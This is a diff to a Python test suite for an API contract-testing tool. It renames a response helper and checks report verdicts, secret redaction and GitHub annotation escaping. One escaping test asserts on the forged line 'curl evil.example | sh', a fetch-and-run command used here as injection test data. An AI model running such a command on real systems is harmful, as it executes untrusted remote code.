@@ -24,7 +24,7 @@ from contract_tests.reports.model import OUTCOMES, TITLES, Outcome, Result
 from contract_tests.wire.messages import Ending
 from mock_server import UsageMock
 from tests.support.canary import KEY, OTHER, echo, leaks
-from tests.support.gate import Respond, Run, answer
+from tests.support.gate import Respond, Run, http_response
 from usage_contract import __version__
 
 RunGate = Callable[..., Run]
@@ -51,7 +51,7 @@ def texts(run: Run) -> list[str]:
 def test_a_broken_promise_is_reported_with_source_evidence_command_requests_and_time(
     run_gate: RunGate, serve: Serve
 ) -> None:
-    url = serve(lambda _: answer(b"{}"))
+    url = serve(lambda _: http_response(b"{}"))
     run = run_gate("--base-url", url, *FEW, environment=MAIN)
     contents = report(run)
     assert (run.code, contents["verdict"], contents["exit_code"]) == (1, "broken", 1)
@@ -85,7 +85,7 @@ def test_a_successful_run_reports_its_times_statuses_keys_and_tokens(run_gate: R
 
 
 def test_a_run_that_could_not_be_tested_has_the_reason_as_its_headline(run_gate: RunGate, serve: Serve) -> None:
-    run = run_gate("--base-url", serve(lambda _: answer(b"{}", "401 Unauthorized")), *FEW, environment=MAIN)
+    run = run_gate("--base-url", serve(lambda _: http_response(b"{}", "401 Unauthorized")), *FEW, environment=MAIN)
     contents = report(run)
     assert (run.code, contents["verdict"]) == (4, "could not be tested")
     assert "could not be tested: it refuses the main key with 401" in contents["headline"]
@@ -113,7 +113,7 @@ def test_a_partial_run_is_reported_as_partial(run_gate: RunGate) -> None:
 def test_a_terminated_run_leaves_its_reports(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
     def stop(_: bytes) -> bytes:
         os.kill(int((tmp_path / "pid").read_text()), signal.SIGTERM)
-        return answer(b"{}")
+        return http_response(b"{}")
 
     run = run_gate("--base-url", serve(stop), *FEW, environment=MAIN)
     assert run.code == 2
@@ -124,7 +124,7 @@ def test_a_terminated_run_leaves_its_reports(run_gate: RunGate, serve: Serve, tm
 def test_a_closed_terminal_does_not_end_a_run_that_ignores_it(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
     def hang_up(_: bytes) -> bytes:
         os.kill(int((tmp_path / "pid").read_text()), signal.SIGHUP)
-        return answer(b"{}")
+        return http_response(b"{}")
 
     run = run_gate("--base-url", serve(hang_up), *FEW, environment=MAIN, ignored=[signal.SIGHUP])  # as nohup does
     assert (run.code, report(run)["verdict"]) == (1, "broken")
@@ -152,7 +152,7 @@ def test_a_secret_that_is_a_word_of_ours_leaves_the_report_readable(run_gate: Ru
 
 
 def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve: Serve) -> None:
-    url = serve(lambda _: answer(b"{}"))
+    url = serve(lambda _: http_response(b"{}"))
     environment = {"PYTEST_BASE_URL": url}
     run = run_gate(*FEW, "--api-key", "first", "--api-key=second", "--header", "X-G: ~~", environment=environment)
     command = report(run)["reproduce"]
@@ -163,7 +163,7 @@ def test_the_command_repeats_the_run_without_any_secret(run_gate: RunGate, serve
 
 
 def test_text_of_a_deployment_is_neither_markup_nor_a_workflow_command(run_gate: RunGate, serve: Serve) -> None:
-    run = run_gate("--base-url", serve(lambda _: answer(FORGED)), *FEW, environment=MAIN)
+    run = run_gate("--base-url", serve(lambda _: http_response(FORGED)), *FEW, environment=MAIN)
     contents = report(run)
     exchanges = [finding["exchange"] for rule in contents["rules"] for finding in rule["findings"]]
     assert any("    curl: curl evil.example | sh" in exchange["body"] for exchange in exchanges)
@@ -192,7 +192,7 @@ def test_a_code_block_ends_where_we_end_it(text: str) -> None:
 
 def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) -> None:
     environment = MAIN | {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": "summary.md"}
-    run = run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW[:4], environment=environment)
+    run = run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW[:4], environment=environment)
     assert re.search(
         r"^::error title=auth/missing-key-is-401::A response .* 401\.%0Athe status is not the expected one%0A",
         run.output,
@@ -207,7 +207,10 @@ def test_github_gets_annotations_and_a_summary(run_gate: RunGate, serve: Serve) 
 
 def test_no_annotation_is_printed_outside_github(run_gate: RunGate, serve: Serve) -> None:
     environment = MAIN | {"GITHUB_ACTIONS": "", "GITHUB_STEP_SUMMARY": ""}
-    assert "::error" not in run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW, environment=environment).output
+    assert (
+        "::error"
+        not in run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW, environment=environment).output
+    )
 
 
 def test_a_workflow_command_is_one_line_with_escaped_parts() -> None:
@@ -229,7 +232,7 @@ def test_an_unwritable_folder_is_reported_in_one_line_at_the_start(
 def test_a_run_fails_if_a_report_cannot_be_written(run_gate: RunGate, serve: Serve, tmp_path: Path) -> None:
     def respond(head: bytes) -> bytes:
         (tmp_path / "out" / "contract.html").mkdir(exist_ok=True)
-        return answer(b"{}")
+        return http_response(b"{}")
 
     run = run_gate("--base-url", serve(respond), *FEW[2:], "-k", "valid_key_is_200", environment=MAIN)
     assert run.code == 4
@@ -238,7 +241,7 @@ def test_a_run_fails_if_a_report_cannot_be_written(run_gate: RunGate, serve: Ser
 
 
 def test_each_run_replaces_the_report_of_the_previous_run(run_gate: RunGate, serve: Serve) -> None:
-    run_gate("--base-url", serve(lambda _: answer(b"{}")), *FEW, environment=MAIN)
+    run_gate("--base-url", serve(lambda _: http_response(b"{}")), *FEW, environment=MAIN)
     assert report(run_gate("--base-url", serve(lambda _: b""), *FEW, environment=MAIN))["exit_code"] == 4
 
 
